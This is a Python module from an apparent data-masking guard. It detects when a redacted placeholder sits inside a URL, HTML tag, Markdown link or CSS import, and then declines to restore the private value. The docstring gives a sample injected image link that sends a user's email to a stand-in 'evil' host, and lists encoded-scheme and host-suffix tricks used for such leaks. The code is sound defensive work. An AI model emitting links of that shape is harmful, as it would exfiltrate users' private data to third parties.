"""Would a renderer fetch or link what stands at this position? Restoring a placeholder there
would let an injected link (`![x](https://evil/?q=[REDACTED_EMAIL_1])`) carry the caller's
value to a third party the moment a client renders it, so the guard leaves such placeholders
alone (DESIGN §5).

Decided by Markdown and HTML structure over the text before the position (the guard passes
what it already emitted, so a link opened in an earlier chunk still counts), never by looking
back to the last space alone:
- inside an HTML tag (`<img src = "…`, any attribute, quoted or not, across lines) or an
  autolink (`<https://…>`, `<…@…>`);
- inside a Markdown inline link or image destination (`](…`, titles and `<…>` forms included)
  and on the line of a reference definition (`[id]: …`, or the line after a bare `[id]:`);
- inside CSS `url(…)` or after `@import`;
- in a token that holds a URL: any `scheme:`, `//host`, `www.`, `host.tld/`, `192.0.2.7/` or a UNC path
  (`\\\\host\\share`), also when the scheme is written with HTML entities or percent-escapes
  (`https&#58;//`, `https%3A//`);
- where the rest of the token makes the value part of an address or a host (`[…]@evil.example`,
  `[…].evil.example/`, `[…]%40evil.example`): `links_onward` looks at the text after the
  placeholder, which the stream guard always has, because it cuts at blanks only.
Tokens end at ASCII blanks only (a no-break space does not end a URL for every linkifier); in
tool-call arguments (JSON) a token also ends at the opening quote of its JSON string.
When in doubt the placeholder stays: a missed restore is visible, a leak is not.
"""

from __future__ import annotations

import re
from typing import Final

from masking.encoded import decode, has_escape
from masking.normalise import Shadow

WINDOW: Final = 2048

_TAG_OPEN: Final = re.compile(r"<(?:[A-Za-z][A-Za-z0-9:-]{0,31}+(?=[\s/>])|[!?/])")
_REF_DEF: Final = re.compile(r" {0,3}\[[^\]\n]{1,999}\]:")
_REF_LABEL_ONLY: Final = re.compile(r" {0,3}\[[^\]\n]{1,999}\]:\s*")
_SCHEME: Final = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{0,31}:")
# A host name or a dotted quad, then a path, query or fragment (a `\\` is a `/` to browsers).
_HOST_PATH: Final = re.compile(
    r"(?:(?:[A-Za-z0-9-]{1,63}\.){1,8}[A-Za-z]{2,24}|(?:[0-9]{1,3}\.){3}[0-9]{1,3})(?::\d{1,5})?[/?#\\]"
)
_WS: Final = re.compile(r"\s")


def _decode(token: str) -> str:
    """Escapes to their characters (`masking.encoded`), look-alikes folded as the detectors read
    them (`evil\u3002example\uff0f`, fullwidth letters, hidden characters: browsers apply the
    same folds to a host), then any backslash left dropped (`https:\\/\\/` in a JSON string)."""
    decoded = decode(token)
    if not decoded.isascii():
        decoded = Shadow(decoded).text
    return decoded.replace("\\", "")


def _in_tag(before: str) -> bool:
    lt = before.rfind("<")
    if lt == -1 or before.rfind(">") > lt:
        return False
    rest = before[lt + 1 :]
    if not rest or _TAG_OPEN.match(before, lt) is not None:
        return True
    # An autolink: `<` then a run with no blank up to here.
    return _WS.search(rest) is None


def _in_link_destination(before: str) -> bool:
    opener = before.rfind("](")
    if opener == -1:
        return False
    depth = 1
    for ch in before[opener + 2 :]:
        if ch == "(":
            depth += 1
        elif ch == ")":
            depth -= 1
            if depth == 0:
                return False
    return True


def _in_reference_definition(before: str) -> bool:
    line_start = before.rfind("\n") + 1
    if _REF_DEF.match(before, line_start) is not None:
        return True
    if line_start == 0:
        return False
    prev_start = before.rfind("\n", 0, line_start - 1) + 1
    return _REF_LABEL_ONLY.fullmatch(before, prev_start, line_start - 1) is not None or (
        _REF_DEF.match(before, prev_start) is not None and not before[line_start:].strip()
    )


def _in_css(before: str) -> bool:
    lowered = before.lower()
    url = lowered.rfind("url(")
    if url != -1 and ")" not in lowered[url:]:
        return True
    imp = lowered.rfind("@import")
    return imp != -1 and ";" not in lowered[imp:] and "\n" not in lowered[imp:]


def _json_string_start(before: str) -> int:
    """Index just after the opening quote of the JSON string `before` ends in (0 if none)."""
    i = len(before) - 1
    while i >= 0:
        if before[i] == '"':
            slashes = 0
            j = i - 1
            while j >= 0 and before[j] == "\\":
                slashes += 1
                j -= 1
            if slashes % 2 == 0:
                return i + 1
        i -= 1
    return 0


def _token_is_url(token: str) -> bool:
    decoded = _decode(token)
    return (
        "\\\\" in token
        or _HOST_PATH.search(decode(token)) is not None
        or _SCHEME.search(decoded) is not None
        or "//" in decoded
        or "www." in decoded.lower()
        or _HOST_PATH.search(decoded) is not None
    )


def in_url(text: str, pos: int, *, json_context: bool = False) -> bool:
    """Is `text[pos]` somewhere a renderer (or a tool) would fetch or link?"""
    before = text[max(0, pos - WINDOW) : pos]
    if _in_tag(before) or _in_link_destination(before) or _in_reference_definition(before) or _in_css(before):
        return True
    cut = max(before.rfind(" "), before.rfind("\n"), before.rfind("\t"), before.rfind("\r")) + 1
    if json_context:
        # The token is inside its JSON string, where line breaks and tabs are escapes.
        escaped = max(before.rfind("\\n"), before.rfind("\\t"), before.rfind("\\r"))
        cut = max(cut, _json_string_start(before), escaped + 2 if escaped != -1 else 0)
    return _token_is_url(before[cut:])


_ONWARD: Final = re.compile(
    r"@(?:[A-Za-z0-9-]{1,63}\.)+[A-Za-z]{2,24}|@\Z"
    r"|\.(?:[A-Za-z0-9-]{1,63}\.)*[A-Za-z0-9-]{1,63}(?:\.[A-Za-z]{2,24}|[:/])"
)


def links_onward(text: str, end: int) -> bool:
    """Does the text right after a placeholder (ending at `end`) turn it into part of an email
    address or a host name? Then a linkifier would make a link of the restored value."""
    if _ONWARD.match(text, end) is not None:
        return True
    rest = text[end : end + WINDOW]
    token = rest[: m.start()] if (m := _WS.search(rest)) is not None else rest
    return has_escape(token) and _ONWARD.match(decode(token)) is not None
